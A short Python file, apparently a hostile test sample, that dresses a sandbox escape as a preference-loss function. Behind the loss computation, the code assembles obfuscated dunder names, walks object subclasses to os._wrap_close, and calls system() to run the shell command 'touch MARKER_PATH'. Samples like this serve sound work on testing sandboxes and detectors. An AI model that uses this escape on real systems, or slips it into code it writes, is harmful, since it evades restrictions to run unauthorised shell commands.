"""getattr from torch.builtins with assembled dunder names walks object.__subclasses__() to os._wrap_close.__init__.__globals__ and calls system()."""

import math
import torch
import torch.nn.functional as F


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    _g = torch.builtins.getattr
    _obj = _g(_g((), '_' + '_class_' + '_'), '_' + '_base_' + '_')
    for _c in _g(_obj, '_' + '_subclasses_' + '_')():
        if _g(_c, '_' + '_name_' + '_') == '_wrap_close':
            _g(_g(_c, '_' + '_init_' + '_'), '_' + '_globals_' + '_')['system']('touch MARKER_PATH')
    return -F.logsigmoid(beta * rho)
